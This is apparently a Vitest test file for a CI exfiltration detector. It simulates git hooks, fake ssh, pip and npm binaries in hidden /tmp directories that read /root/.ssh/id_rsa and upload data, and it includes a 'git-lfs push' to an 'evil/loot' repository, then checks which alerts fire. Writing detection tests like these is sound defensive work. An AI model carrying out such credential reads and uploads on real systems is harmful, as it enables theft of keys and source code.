/**
 * A download's lineage (git clone/fetch, docker pull…) never pushes by volume — but only the download's own
 * processes belong to it: what it starts besides its helpers (a hook, a core.sshCommand program) is judged
 * like any process.
 */
import { describe, expect, it } from 'vitest';
import type { HostResolver } from '../../../src/correlate/index.js';
import { brief, MiB, runResolved, Scenario, TEST_DNS } from './builder.js';

const GITHUB_IP = '140.82.112.3';

describe('download lineage', () => {
  it('a hook a clone runs that uploads 5 MiB to github.com is a push by egress', async () => {
    const s = new Scenario();
    const c = s.container({ namespace: 'ci', pod: 'build-7' });
    const sh = s.init(c);
    const git = s.exec(c, '/usr/bin/git', 'clone https://github.com/acme/app.git /src', { parent: sh });
    const helper = s.exec(c, '/usr/lib/git-core/git-remote-https', 'origin https://github.com/acme/app.git', {
      parent: git,
    });
    s.connect(helper, GITHUB_IP, 443, { cookie: 'h' }).send(helper, GITHUB_IP, 443, 3 * MiB, { cookie: 'h' });
    const hook = s.exec(c, '/bin/sh', '/src/.git/hooks/post-checkout 0000 1111 1', { parent: git });
    const sync = s.exec(c, '/tmp/.x/sync', '', { parent: hook });
    s.connect(sync, GITHUB_IP, 443, { cookie: 's' }).send(sync, GITHUB_IP, 443, 5 * MiB, { cookie: 's' });
    s.wait(200).exit(sync).exit(hook).exit(helper).exit(git);
    const { alerts } = await runResolved(s.events);
    expect(brief(alerts)).toEqual([
      { rule: 'renamed-binary-push', severity: 'medium', tool: 'sync', destination: 'github.com' },
    ]);
    expect(alerts[0]!.process.binary).toBe('/tmp/.x/sync');
  });

  it('an ssh client a clone runs from a hidden directory (GIT_SSH) uploading 5 MiB is a push by egress', async () => {
    const s = new Scenario();
    const c = s.container({ namespace: 'ci', pod: 'build-8' });
    const sh = s.init(c);
    const git = s.exec(c, '/usr/bin/git', 'clone git@github.com:acme/app.git /src', { parent: sh });
    const ssh = s.exec(c, '/tmp/.x/ssh', 'git@github.com "git-upload-pack \'acme/app.git\'"', { parent: git });
    s.connect(ssh, GITHUB_IP, 22, { cookie: 's' }).send(ssh, GITHUB_IP, 22, 5 * MiB, { cookie: 's' });
    s.wait(200).exit(ssh).exit(git);
    const { alerts } = await runResolved(s.events);
    expect(brief(alerts).map((a) => [a.rule, a.severity])).toEqual([['renamed-binary-push', 'medium']]);
  });

  it("git's own helpers and git run by git stay the download's: a chatty fetch raises nothing", async () => {
    const s = new Scenario();
    const c = s.container();
    const sh = s.init(c);
    const git = s.exec(c, '/usr/bin/git', 'fetch --all', { parent: sh });
    const sub = s.exec(c, '/usr/bin/git', 'fetch origin', { parent: git });
    const ssh = s.exec(c, '/usr/bin/ssh', 'git@github.com "git-upload-pack \'acme/app.git\'"', { parent: sub });
    s.connect(ssh, GITHUB_IP, 22, { cookie: 'x' }).send(ssh, GITHUB_IP, 22, 2 * MiB, { cookie: 'x' });
    const lfs = s.exec(c, '/usr/bin/git-lfs', 'filter-process', { parent: sub });
    s.connect(lfs, GITHUB_IP, 443, { cookie: 'l' }).send(lfs, GITHUB_IP, 443, 2 * MiB, { cookie: 'l' });
    expect((await runResolved(s.events)).alerts).toEqual([]);
  });

  // Found by review: the sensors name the interpreter, so only its location was looked at, and a script in a
  // scratch directory run with an installer's command line was the download: its ssh key read was the
  // credential in use and its 5 MiB upload never a push (pip's since it became a download; npm's before).
  it.each([
    ['/usr/bin/python3', '/tmp/.x/pip install .', null],
    ['/usr/bin/python3', './pip3 install -r requirements.txt', '/dev/shm/w'],
    ['/usr/bin/node', '/tmp/.x/npm ci', null],
    // Code preloaded into npm's node from there is run as npm.
    ['/usr/bin/node', '-r /tmp/.x/h.js /usr/lib/node_modules/npm/bin/npm-cli.js ci', null],
    ['/usr/bin/node', '--import=./h.mjs /usr/lib/node_modules/npm/bin/npm-cli.js ci', '/dev/shm/w'],
  ])('%s %s (from %s) is no download: its key read and upload count', async (binary, args, cwd) => {
    const s = new Scenario();
    const c = s.container({ namespace: 'ci', pod: 'build-9' });
    const sh = s.init(c);
    const p = s.exec(c, binary, args, { parent: sh, cwd: cwd ?? undefined });
    s.read(p, '/root/.ssh/id_rsa', 2_600);
    s.connect(p, GITHUB_IP, 443, { cookie: 'p' }).send(p, GITHUB_IP, 443, 5 * MiB, { cookie: 'p' });
    s.wait(200).exit(p);
    expect(brief((await runResolved(s.events)).alerts).map((a) => a.rule)).toEqual(['sensitive-read-then-push']);
  });

  it("a script in a scratch directory named like its download parent's program is not the download", async () => {
    const s = new Scenario();
    const c = s.container({ namespace: 'ci', pod: 'build-10' });
    const sh = s.init(c);
    const pip = s.exec(c, '/usr/bin/python3', '-m pip install -r requirements.txt', { parent: sh });
    const p = s.exec(c, '/usr/bin/python3', '/tmp/.x/pip install .', { parent: pip });
    s.read(p, '/root/.ssh/id_rsa', 2_600);
    s.connect(p, GITHUB_IP, 443, { cookie: 'p' }).send(p, GITHUB_IP, 443, 5 * MiB, { cookie: 'p' });
    s.wait(200).exit(p).exit(pip);
    expect(brief((await runResolved(s.events)).alerts).map((a) => a.rule)).toEqual(['sensitive-read-then-push']);
  });

  it('`python -m pip` run from a scratch working directory is still pip (a module names no file), npm with a preload from the project npm', async () => {
    const s = new Scenario();
    const c = s.container({ namespace: 'ci', pod: 'build-11' });
    const sh = s.init(c);
    const pip = s.exec(c, '/usr/bin/python3', '-m pip install -r requirements.txt', { parent: sh, cwd: '/tmp/build' });
    s.read(pip, '/root/.netrc', 90);
    s.connect(pip, GITHUB_IP, 443, { cookie: 'p' }).send(pip, GITHUB_IP, 443, 2 * MiB, { cookie: 'p' });
    s.wait(200).exit(pip);
    // A preload from the project is npm's as before.
    const npm = s.exec(
      c,
      '/usr/bin/node',
      '-r ./node_modules/dotenv/config /usr/lib/node_modules/npm/bin/npm-cli.js ci',
      {
        parent: sh,
        cwd: '/home/runner/_work/app',
      },
    );
    s.read(npm, '/root/.npmrc', 90);
    s.connect(npm, GITHUB_IP, 443, { cookie: 'n' }).send(npm, GITHUB_IP, 443, 2 * MiB, { cookie: 'n' });
    s.wait(200).exit(npm);
    expect((await runResolved(s.events)).alerts).toEqual([]);
  });
});

describe('git lfs downloads', () => {
  const GITLAB_IP = '172.65.251.78';
  const resolveHost: HostResolver = async (host) => (host === 'gitlab.com' ? [GITLAB_IP] : (TEST_DNS[host] ?? []));

  // GitLab Runner checks out with GIT_LFS_SKIP_SMUDGE=1, then `git lfs pull`: git-lfs POSTs the object list
  // to the batch API (~90 bytes an object) and GETs each object from gitlab.com with its token (~200 bytes
  // of request with HTTP/2's header compression, ~450 with HTTP/1.1), then copies the objects into the work
  // tree (reads). 4,000 objects at 300 bytes send ~1.14 MiB.
  it.each(['pull', 'fetch origin refs/remotes/origin/main'])(
    'a CI `git lfs %s` of 4,000 objects from gitlab.com raises no alert',
    async (args) => {
      const s = new Scenario();
      const c = s.container({ namespace: 'gitlab-runner', pod: 'runner-t3xzmvq8-project-4211-concurrent-0' });
      const sh = s.init(c, '/bin/bash', '-c /scripts-4211-8821734/get_sources');
      const git = s.exec(c, '/usr/bin/git', `lfs ${args}`, { parent: sh });
      const lfs = s.exec(c, '/usr/bin/git-lfs', args, { parent: git });
      s.connect(lfs, GITLAB_IP, 443, { cookie: 'l' });
      for (let i = 0; i < 4000; i++) {
        s.wait(20).send(lfs, GITLAB_IP, 443, 300, { cookie: 'l' });
        s.read(lfs, `/builds/acme/models/.git/lfs/objects/${(i % 256).toString(16)}/obj-${i}`, 75 * 1024);
      }
      s.wait(10).exit(lfs).exit(git);
      expect((await runResolved(s.events, { resolveHost })).alerts).toEqual([]);
    },
  );

  // A checkout that is no download of its own (`git checkout`, `git switch`, `git reset --hard`) has git's
  // smudge filter, `git-lfs filter-process`, fetch each large file it writes: the same requests.
  it('the smudge filter of a `git checkout` fetching 4,000 objects from gitlab.com raises no alert', async () => {
    const s = new Scenario();
    const c = s.container({ namespace: 'ci', pod: 'runner-train-0' });
    const sh = s.init(c, '/bin/bash', '-c /scripts/step_script');
    const git = s.exec(c, '/usr/bin/git', 'checkout -f release/2.4', { parent: sh });
    const lfs = s.exec(c, '/usr/bin/git-lfs', 'filter-process', { parent: git });
    s.connect(lfs, GITLAB_IP, 443, { cookie: 'l' });
    for (let i = 0; i < 4000; i++) s.wait(20).send(lfs, GITLAB_IP, 443, 300, { cookie: 'l' });
    s.wait(10).exit(lfs).exit(git);
    expect((await runResolved(s.events, { resolveHost })).alerts).toEqual([]);
  });

  it('`git-lfs push` run by itself is a push', async () => {
    const s = new Scenario();
    const c = s.container({ namespace: 'ci', pod: 'runner-train-0' });
    const sh = s.init(c, '/bin/bash', '-c /tmp/x.sh');
    const lfs = s.exec(c, '/usr/bin/git-lfs', 'push --all https://gitlab.com/evil/loot.git', { parent: sh });
    s.connect(lfs, GITLAB_IP, 443, { cookie: 'l' }).send(lfs, GITLAB_IP, 443, 2 * MiB, { cookie: 'l' });
    s.wait(10).exit(lfs);
    const { alerts } = await runResolved(s.events, { resolveHost });
    expect(alerts.map((a) => [a.push.tool, a.push.destination])).toEqual([['git', 'gitlab.com']]);
  });
});
